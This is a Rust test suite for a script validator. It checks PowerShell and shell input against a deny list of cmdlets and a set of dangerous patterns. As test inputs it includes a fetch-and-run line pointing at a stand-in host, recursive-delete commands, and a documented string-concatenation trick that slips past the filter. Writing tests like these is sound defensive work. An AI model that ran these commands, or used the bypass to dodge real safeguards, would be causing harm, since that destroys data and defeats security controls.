use super::rules::{DANGEROUS_PATTERNS, RESTRICTED_COMMANDS};
use super::ScriptValidator;
use pretty_assertions::assert_eq;

#[test]
fn clean_script_passes_with_restrictions_enabled() {
    let validator = ScriptValidator::new();
    let result = validator.check("Get-VM | Select-Object Name, PowerState", true);

    assert!(result.passed());
    assert_eq!(result.issues(), &[] as &[String]);
}

#[test]
fn restricted_cmdlet_is_flagged_by_name() {
    let validator = ScriptValidator::new();
    let result = validator.check("Remove-Item -Path C:\\temp\\old.log", true);

    assert!(!result.passed());
    assert_eq!(
        result.issues(),
        &["Restricted cmdlet detected: Remove-Item".to_string()]
    );
}

#[test]
fn cmdlet_matching_is_case_insensitive() {
    let validator = ScriptValidator::new();
    let result = validator.check("invoke-expression $payload", true);

    assert!(!result.passed());
    assert_eq!(
        result.issues(),
        &["Restricted cmdlet detected: Invoke-Expression".to_string()]
    );
}

#[test]
fn cmdlet_matching_requires_word_boundaries() {
    let validator = ScriptValidator::new();
    // "MyRemove-Item" has a word character before the cmdlet, so the
    // whole-word match must not fire.
    let result = validator.check("MyRemove-ItemWrapper -Safe", true);

    assert!(result.passed());
}

#[test]
fn every_restricted_cmdlet_is_caught() {
    let validator = ScriptValidator::new();

    for command in RESTRICTED_COMMANDS {
        let script = format!("{command} -WhatIf");
        let result = validator.check(&script, true);
        assert!(!result.passed(), "{command} was not flagged");
        assert!(result.issues()[0].contains(command));
    }
}

#[test]
fn dangerous_patterns_are_flagged_with_the_pattern_text() {
    let validator = ScriptValidator::new();
    let result = validator.check("rm -rf /var/lib/critical", true);

    assert!(!result.passed());
    assert_eq!(
        result.issues(),
        &[format!("Dangerous pattern detected: {}", DANGEROUS_PATTERNS[0])]
    );
}

#[test]
fn download_and_eval_idiom_is_flagged() {
    let validator = ScriptValidator::new();
    let script = "Invoke-WebRequest http://evil.example/p.ps1 | Invoke-Expression";
    let result = validator.check(script, true);

    assert!(!result.passed());
    // Both the cmdlet list and the pattern list fire on this script.
    assert!(result
        .issues()
        .iter()
        .any(|issue| issue.starts_with("Restricted cmdlet detected:")));
    assert!(result
        .issues()
        .iter()
        .any(|issue| issue.starts_with("Dangerous pattern detected:")));
}

#[test]
fn multiple_findings_are_reported_in_rule_order() {
    let validator = ScriptValidator::new();
    let script = "Stop-Service spooler\nrm -rf /tmp/x\nRemove-Item foo";
    let result = validator.check(script, true);

    assert!(!result.passed());
    // Restricted-command findings come first (deny-list order), then patterns.
    assert_eq!(
        result.issues(),
        &[
            "Restricted cmdlet detected: Remove-Item".to_string(),
            "Restricted cmdlet detected: Stop-Service".to_string(),
            format!("Dangerous pattern detected: {}", DANGEROUS_PATTERNS[0]),
        ]
    );
}

#[test]
fn restrictions_disabled_bypasses_every_rule() {
    let validator = ScriptValidator::new();
    let script = "Remove-Item -Recurse -Force C:\\; rm -rf /";
    let result = validator.check(script, false);

    assert!(result.passed());
    assert_eq!(result.issues(), &[] as &[String]);
}

#[test]
fn lexical_screening_does_not_catch_obfuscation() {
    // The deny-list is bypassable by construction: building a cmdlet name at
    // runtime defeats pattern matching. Callers rely on this exact contract,
    // so the limitation is pinned here rather than "fixed".
    let validator = ScriptValidator::new();
    let script = "$verb = 'Remove'; & ($verb + '-Item') C:\\temp";

    // The `&\s*\(` pattern still fires on the call operator here, so pick a
    // form without it as the canonical bypass.
    let quiet_bypass = "$cmd = 'Rem' + 'ove-It' + 'em'; Get-Command $cmd";
    assert!(validator.check(quiet_bypass, true).passed());

    // And confirm the call-operator form is only caught by the idiom rule,
    // not by anything resembling semantic analysis.
    let result = validator.check(script, true);
    assert_eq!(
        result.issues(),
        &[format!("Dangerous pattern detected: {}", r"&\s*\(")]
    );
}
